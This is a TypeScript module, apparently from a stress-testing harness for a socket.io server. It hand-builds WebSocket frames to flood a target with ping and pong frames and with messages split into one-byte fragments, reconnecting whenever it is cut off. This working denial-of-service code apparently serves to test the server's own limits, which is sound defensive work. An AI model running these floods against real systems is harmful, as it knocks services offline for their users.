import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { ATTACKED_ROOM, type Attacker, atPace, EVENTS, write } from './attacker.ts';

const TEXT = 1;
const CONTINUATION = 0;
const PING = 9;
const PONG = 10;
const FIN = 0x80;
/** The bytes that one system call reads. */
const CHUNK_FRAMES = 10_000;
/** A client whose connection is closed opens another, not more often than this. */
const AGAIN_MS = 50;

/** A frame with a mask of zeros, which changes nothing. */
function frame(opcode: number, text = ''): Buffer {
  const payload = Buffer.from(text);
  return Buffer.concat([Buffer.from([opcode, 0x80 | payload.length]), Buffer.alloc(4), payload]);
}

function many(opcode: number): Buffer {
  return Buffer.concat(Array.from({ length: CHUNK_FRAMES }, () => frame(FIN | opcode)));
}

/** One event, each byte of which is a fragment. */
function fragmented(bytes: number): Buffer {
  const text = `42["nothing","${'a'.repeat(bytes)}"]`;
  const last = text.length - 1;
  return Buffer.concat(
    [...text].map((letter, at) => frame((at === 0 ? TEXT : CONTINUATION) | (at === last ? FIN : 0), letter)),
  );
}

/** The socket of a connection whose CONNECT is on its way. */
async function open(url: string): Promise<Socket> {
  const { hostname: host, port, host: name } = new URL(url);
  const socket = connect({ host, port: Number(port), noDelay: true });
  socket.on('error', () => undefined);
  socket.write(
    `GET /socket.io/?EIO=4&transport=websocket&roomid=${ATTACKED_ROOM}&username=Attacker HTTP/1.1\r\nHost: ${name}\r\n` +
      'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n',
  );
  // The answer to the upgrade, or the end.
  await Promise.race([once(socket, 'data'), once(socket, 'close')]);
  socket.resume();
  socket.write(frame(FIN | TEXT, '40'));
  return socket;
}

function overSockets(
  name: string,
  attackOne: (socket: Socket, over: AbortSignal, count: (sent: number) => void) => Promise<void>,
): Attacker {
  return {
    name,
    async attack(url, over, count) {
      while (!over.aborted) {
        const socket = await open(url);
        const ended = new AbortController();
        socket.once('close', () => ended.abort());
        if (!socket.destroyed) await attackOne(socket, AbortSignal.any([over, ended.signal]), count);
        socket.destroy();
        await pause(AGAIN_MS);
      }
    },
  };
}

/** No rate of the settings counts these frames: they are sent as fast as the server reads. */
function flood(name: string, opcode: number): Attacker {
  const bytes = many(opcode);
  return overSockets(name, async (socket, over, count) => {
    while (!over.aborted) {
      await write(socket, bytes, over);
      count(CHUNK_FRAMES);
      // The end of the phase is told in a turn of its own.
      await pause(0);
    }
  });
}

export const pings = flood('frames: pings', PING);
export const pongs = flood('frames: pongs', PONG);

/** 15,000 is what ws takes by itself, 400 what the server lets through. */
export const fragments: readonly Attacker[] = [400, 15_000].map((bytes) => {
  const message = fragmented(bytes);
  return overSockets(`frames: ${bytes} fragments`, (socket, over, count) =>
    atPace(EVENTS, over, async (units) => {
      for (let n = 0; n < units && !over.aborted; n += 1) await write(socket, message, over);
      count(units);
    }),
  );
});
